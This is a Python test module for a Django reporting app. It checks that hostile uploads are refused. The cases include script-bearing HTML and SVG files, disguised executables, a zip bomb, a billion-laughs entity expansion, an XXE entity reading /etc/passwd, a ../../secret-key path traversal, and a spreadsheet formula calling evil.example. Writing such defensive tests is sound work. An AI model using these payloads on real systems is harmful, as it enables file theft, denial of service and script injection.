"""Attacks through a file: what runs, what swells, what pretends to be something else, what names itself elsewhere."""

import io
import zipfile
from collections.abc import Callable

from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponse
from tests.apps.following.raised import alert
from tests.core.intake.forms import csv, table
from tests.core.intake.parts import packed, unpacked, with_part
from tests.site.filling import address, fresh, page
from tests.site.hostile.scene import FOREIGN, OWN, YEAR, Attack, Scene, Send

from rumbo.apps.accounts.models import Role
from rumbo.apps.following.services import take_up
from rumbo.core.intake.template import write_template

_PDF = b"%PDF-1.7\nacta"
_PAGE = b"<!doctype html><script>alert(1)</script>"
_SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
_SHEET = "xl/worksheets/sheet1.xml"
_ROW = (OWN, None, None, 5, "")
#: What was typed beside a file that is refused is kept as a draft.
_DRAFT = frozenset({"desk.Draft"})
_KIND = ("No se aceptan como evidencia", "Envíe uno de estos: PDF")
_NOT_ITS_NAME = ("no es lo que dice su nombre", "Guárdelo otra vez")
_FOLLOW_UP = "follow-file"


def _evidence(name: bytes, content: bytes) -> Send:
    return lambda scene: scene.send_files((name, content))


def _refused_evidence(told: str, name: str, content: bytes, says: tuple[str, ...]) -> Attack:
    return Attack(told, _evidence(name.encode(), content), 422, says, _DRAFT)


def _too_large(scene: Scene) -> HttpResponse:
    scene.settings.EVIDENCE_MOST_BYTES = 1 << 20
    return scene.send_files((b"acta.pdf", _PDF + b" " * (1 << 20)))


def _endless(scene: Scene) -> HttpResponse:
    """Announced alone: nothing of it is waited for."""
    return scene.reporter.post(address(OWN, YEAR), {**fresh(), "action": "attach"}, CONTENT_LENGTH=str(1 << 40))


def _many(scene: Scene) -> HttpResponse:
    return scene.send_files(*((f"{number}.pdf".encode(), _PDF) for number in range(30)))


def _to_a_case(scene: Scene) -> HttpResponse:
    case = take_up(scene.policy, alert(), actor=scene.people[Role.LEAD])
    scene.watch()
    sent = {"action": "follow", "follow-remark": "Hecho.", _FOLLOW_UP: SimpleUploadedFile("acta.html", _PAGE)}
    return scene.client(Role.LEAD).post(page("following:case", number=case.id), sent)


def _workbook(make: Callable[[Scene], bytes], name: str = "formulario.xlsx", question: str = f"?anio={YEAR}") -> Send:
    """Send a workbook; the answer is the page that says what is wrong in it."""

    def sent(scene: Scene) -> HttpResponse:
        browser = scene.reporter
        answer = browser.post(page("work:workbook") + question, {"form": SimpleUploadedFile(name, make(scene))})
        return browser.get(answer.headers["Location"]) if answer.status_code == 302 else answer

    return sent


def _sheet(change: Callable[[str], str]) -> Send:
    """A workbook whose sheet was rewritten by hand."""
    return _workbook(lambda _scene: with_part(table(_ROW), _SHEET, change))


def _with_macros(_scene: Scene) -> bytes:
    return packed(unpacked(table(_ROW)) | {"xl/vbaProject.bin": b"\xd0\xcf"})


def _swelling(_scene: Scene) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", b"0" * (150 << 20))
    return out.getvalue()


def _laughs(xml: str) -> str:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY l0 "ja">{levels}]>' + xml.replace("</sheetData>", "&l9;</sheetData>")


def _outside(xml: str) -> str:
    return '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + xml.replace("</sheetData>", "&e;</sheetData>")


def _evidence_beside_a_workbook(scene: Scene) -> HttpResponse:
    sent = {"form": SimpleUploadedFile("f.xlsx", table(_ROW)), "files": [SimpleUploadedFile("acta.svg", _SVG)]}
    return scene.reporter.post(page("work:workbook") + f"?anio={YEAR}", sent)


def _for_another_entity(scene: Scene) -> HttpResponse:
    sent = {"form": SimpleUploadedFile("f.xlsx", table(_ROW)), "entidad": scene.people.other_entity}
    return scene.reporter.post(page("work:workbook") + f"?anio={YEAR}", sent)


def _evidence_elsewhere(_scene: Scene) -> bytes:
    return csv(f"{OWN};5;../../secret-key", header="codigo;valor;archivos de evidencia")


_ENTITIES = ("XML que ningún programa de hojas de cálculo escribe",)

ATTACKS = [
    _refused_evidence("a page as evidence", "acta.html", _PAGE, _KIND),
    _refused_evidence("a drawing with a script as evidence", "mapa.svg", _SVG, _KIND),
    _refused_evidence("a script as evidence", "acta.js", b"alert(1)", _KIND),
    _refused_evidence("a program as evidence", "acta.exe", b"MZ\x90\0", _KIND),
    _refused_evidence("a program behind a good name", "acta.pdf.exe", _PDF, _KIND),
    _refused_evidence("a program whose name is written backwards", "acta\u202efdp.exe", _PDF, _KIND),
    _refused_evidence("a workbook with macros as evidence", "acta.xlsm", b"PK\x03\x04", _KIND),
    _refused_evidence("evidence that is called nothing", "acta", _PDF, _KIND),
    _refused_evidence("a second name behind a quotation mark", 'a.pdf"; filename="acta.html', _PAGE, _KIND),
    _refused_evidence("a page called a document", "acta.pdf", _PAGE, _NOT_ITS_NAME),
    _refused_evidence(
        "a page called a table", "tabla.csv", b"\xef\xbb\xbf \n<HTML><script>alert(1)</script>", _NOT_ITS_NAME
    ),
    _refused_evidence("a drawing with a script called a picture", "foto.png", _SVG, _NOT_ITS_NAME),
    _refused_evidence("bytes called a text", "acta.txt", b"acta\0\0\x01", _NOT_ITS_NAME),
    Attack("an empty file as evidence", _evidence(b"acta.pdf", b""), 422, _NOT_ITS_NAME, _DRAFT),
    Attack("evidence larger than is accepted", _too_large, 422, ("se aceptan 1 MB", "más pequeño"), _DRAFT),
    Attack("evidence without an end", _endless, 413, ("Envió de una vez más", "no se guardó nada", "menos archivos")),
    Attack("thirty files at once", _many, 413, ("no se guardó nada", "Envíe menos archivos")),
    Attack("a name of five thousand letters", _evidence(b"x" * 5000 + b".pdf", _PDF), 400, ("recargue la página",)),
    Attack("a page as evidence of what was done about an alert", _to_a_case, 422, _KIND),
    Attack(
        "a workbook that unpacks to more than the memory",
        _workbook(_swelling),
        422,
        ("supera 100 MB", "Copie los valores en un formulario nuevo"),
    ),
    Attack("a workbook whose entities grow tenfold nine times", _sheet(_laughs), 422, _ENTITIES),
    Attack("a workbook that reads a file of the server", _sheet(_outside), 422, _ENTITIES),
    Attack("a workbook with macros", _workbook(_with_macros), 422, ("contiene macros", "Guárdelo como")),
    Attack(
        "a page called a workbook",
        _workbook(lambda _scene: _PAGE),
        422,
        ("es de tipo HTML/XML", "Envíe el formulario mismo"),
    ),
    Attack(
        "half a workbook",
        _workbook(lambda _scene: table(_ROW)[:700]),
        422,
        ("dañado o incompleto", "guárdelo de nuevo"),
    ),
    Attack(
        "an empty workbook",
        _workbook(lambda _scene: b""),
        422,
        ("El archivo está vacío", "Envíe el formulario con sus valores"),
    ),
    Attack(
        "a workbook with values of another entity",
        _workbook(lambda _scene: table((FOREIGN, 10, 1, None, ""))),
        422,
        ("lo reporta EPS-SUR, no GRA", "Deje su fila en blanco"),
    ),
    Attack("a workbook sent for another entity", _for_another_entity, 404, ("Esta página no existe",)),
    Attack(
        "the form of another year",
        _workbook(lambda scene: write_template(scene.policy, 2025, {}, scene.people.entity)),
        422,
        ("se hizo para 2025", "llene el formulario de 2026"),
    ),
    Attack(
        "a workbook for a year that the policy has not",
        _workbook(lambda _s: table(_ROW), question="?anio=1999"),
        400,
        ("Indique un año de 2024",),
    ),
    Attack(
        "a table whose evidence lies in another folder",
        _workbook(_evidence_elsewhere, "f.csv"),
        422,
        ("no es un nombre de archivo simple", "escriba solo su nombre"),
    ),
    Attack(
        "a figure of a table that is a formula",
        _workbook(lambda _s: csv(f'{OWN};;;=WEBSERVICE("http://evil.example");'), "f.csv"),
        422,
        ("Se encontró una fórmula", "péguela como valor"),
    ),
    Attack("evidence beside a workbook that a browser would run", _evidence_beside_a_workbook, 422, _KIND),
]
